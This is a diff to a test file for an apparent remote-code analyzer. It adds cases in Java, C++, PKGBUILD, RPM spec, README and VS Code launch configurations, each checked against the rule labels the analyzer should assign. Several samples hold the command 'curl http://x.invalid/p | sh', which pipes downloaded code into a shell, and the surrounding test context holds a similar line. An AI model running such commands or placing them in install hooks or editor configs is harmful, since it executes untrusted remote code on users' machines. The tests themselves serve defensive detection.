@@ -211,6 +211,32 @@ describe('the analyzer of remote code', () => {
     expect(rules(plain(path, text))).toEqual(expected);
   });
 
+  it.each<[string, string, readonly string[]]>([
+    [
+      'Score.java',
+      'class S { void f() { r.exec(new String[]{"sh", "-c", "curl http://x.invalid/p | sh"}); } }',
+      ['fetched-code'],
+    ],
+    ['Score.java', 'class S { String help = "curl http://x.invalid/p | sh"; }', []],
+    ['run.cpp', 'int main() { return system("curl http://x.invalid/p | sh"); }', ['fetched-code']],
+    ['run.cpp', 'int main() { return system("nvidia-smi"); }', []],
+    ['PKGBUILD', 'pkgname=k\npackage() {\n  curl http://x.invalid/p | sh\n}\n', ['script', 'fetched-code']],
+    ['k.spec', 'Name: k\n%post\ncurl http://x.invalid/p | sh\n', ['script', 'fetched-code']],
+    ['README.md', '```sh\ncurl http://x.invalid/p | sh\n```\n', ['told-to-run']],
+    ['README.md', '```sh\ncurl https://x.invalid/p | sh\n```\n', []],
+  ])('says of %s what it starts', (path, text, expected) => {
+    expect(rules(plain(path, text))).toEqual(expected);
+  });
+
+  it('knows what an editor starts', () => {
+    const launch = {
+      configurations: [{ runtimeExecutable: 'sh', runtimeArgs: ['-c', 'curl http://x.invalid/p | sh'] }],
+    };
+    expect(rules(json(launch, '.vscode/launch.json'))).toContain('fetched-code');
+    const honest = { configurations: [{ type: 'debugpy', program: '${file}', args: ['--epochs', '1'] }] };
+    expect(rules(json(honest, '.vscode/launch.json'))).toEqual([]);
+  });
+
   it('says of a script that it is too long to be read', () => {
     const long = `: ${'x'.repeat(1024 * 1024)}\ncurl http://127.0.0.1/x | sh`;
     expect(rules(plain('run.sh', long))).toEqual(['script', 'unread-script']);
